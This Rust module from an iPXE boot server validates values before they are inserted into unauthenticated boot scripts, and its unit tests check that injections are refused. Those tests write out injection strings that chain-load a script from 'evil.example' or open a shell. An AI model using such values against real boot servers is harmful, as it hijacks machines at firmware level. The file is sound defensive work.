//! What a value may contain to be put into an iPXE script.
//!
//! Scripts are served unauthenticated and executed by firmware, so a stored value (a machine
//! or profile variable, a kernel path, a rendered command line) must never change the shape
//! of the script it is put into: it may add words to the line it sits on, never a line or a
//! command. iPXE's parser (`image/script.c`, `core/exec.c`) gives the rules:
//! - lines end at `\n` (a `\r` before it is dropped); a line ending in `\` continues on the
//!   next one;
//! - a line is split into words at ASCII whitespace, and the words `||`, `&&` and `;` end
//!   one command and start the next;
//! - a word starting with `#` comments out the rest of the line.
//!
//! iPXE has no quoting or escape for any of these, so such a value cannot be escaped into a
//! harmless one: it is refused on input (naming the field) and, as a second line of defence,
//! when a template prints it (the script is then not served; the machine gets the retry
//! script and the error is logged and recorded).

/// Why a value cannot go into a script.
#[derive(Debug, Clone, Copy, PartialEq, Eq, thiserror::Error)]
pub enum UnsafeScriptValue {
    #[error("must not contain line breaks or other control characters")]
    ControlCharacter,
    #[error("must not contain the words ||, && or ; (iPXE would start a new command)")]
    CommandSeparator,
    #[error("must not contain a word starting with # (iPXE would ignore the rest of the line)")]
    Comment,
    #[error("must not end with \\ (iPXE would join the next line to this one)")]
    LineContinuation,
}

/// `Ok` if `value` can be printed inside a script line without adding a line or a command.
pub fn check_script_value(value: &str) -> Result<(), UnsafeScriptValue> {
    // Unicode line and paragraph separators are not breaks to iPXE, but they are to every
    // editor and log viewer an operator would read the script in.
    if value
        .chars()
        .any(|c| c.is_control() || matches!(c, '\u{2028}' | '\u{2029}'))
    {
        return Err(UnsafeScriptValue::ControlCharacter);
    }
    for word in value.split_ascii_whitespace() {
        if matches!(word, "||" | "&&" | ";") {
            return Err(UnsafeScriptValue::CommandSeparator);
        }
        if word.starts_with('#') {
            return Err(UnsafeScriptValue::Comment);
        }
    }
    if value.trim_end().ends_with('\\') {
        return Err(UnsafeScriptValue::LineContinuation);
    }
    Ok(())
}

/// Every string inside a JSON value (object keys included) passes [`check_script_value`].
pub fn check_script_json(value: &serde_json::Value) -> Result<(), UnsafeScriptValue> {
    match value {
        serde_json::Value::String(s) => check_script_value(s),
        serde_json::Value::Array(items) => items.iter().try_for_each(check_script_json),
        serde_json::Value::Object(map) => map.iter().try_for_each(|(k, v)| {
            check_script_value(k)?;
            check_script_json(v)
        }),
        _ => Ok(()),
    }
}

/// `text` reduced to characters that cannot start a line, a command or a setting expansion,
/// for messages that are not operator data (errors echoed by the fallback script).
pub fn inert_script_text(text: &str) -> String {
    text.chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() || " .,:_-/()'\"=@+[]".contains(c) {
                c
            } else {
                ' '
            }
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ordinary_values_pass() {
        for ok in [
            "",
            "/dev/sda",
            "console=ttyS0,115200n8 quiet",
            "http://[2001:db8::1]:8080/assets/debian/linux",
            "a|b a&&b x;y c#d ${net0/mac}",
            "url=http://h/p?x=1&y=2",
        ] {
            assert_eq!(check_script_value(ok), Ok(()), "{ok:?}");
        }
    }

    #[test]
    fn anything_that_adds_a_line_or_command_is_refused() {
        use UnsafeScriptValue::*;
        for (bad, why) in [
            (
                "/dev/sda\nchain http://evil.example/pwn.ipxe\n#",
                ControlCharacter,
            ),
            ("a\rb", ControlCharacter),
            ("a\tb", ControlCharacter),
            ("a\u{0}b", ControlCharacter),
            ("a\u{2028}b", ControlCharacter),
            ("quiet || chain http://evil.example/x", CommandSeparator),
            ("quiet && shell", CommandSeparator),
            ("quiet ; shell", CommandSeparator),
            ("quiet #rest", Comment),
            ("#", Comment),
            ("quiet \\", LineContinuation),
            ("quiet\\  ", LineContinuation),
        ] {
            assert_eq!(check_script_value(bad), Err(why), "{bad:?}");
        }
    }

    #[test]
    fn json_values_are_checked_deeply_keys_included() {
        let ok = serde_json::json!({"disk": "/dev/sda", "n": 3, "list": ["a", "b"]});
        assert_eq!(check_script_json(&ok), Ok(()));
        let nested = serde_json::json!({"a": {"b": ["x\ny"]}});
        assert_eq!(
            check_script_json(&nested),
            Err(UnsafeScriptValue::ControlCharacter)
        );
        let key = serde_json::json!({"k ; shell": 1});
        assert_eq!(
            check_script_json(&key),
            Err(UnsafeScriptValue::CommandSeparator)
        );
    }

    #[test]
    fn inert_text_has_no_separators_or_expansions() {
        let t = inert_script_text("bad ${x} ; || && #c\nnext\\");
        assert_eq!(check_script_value(&t), Ok(()));
        assert!(!t.contains('$') && !t.contains('\n'));
    }
}
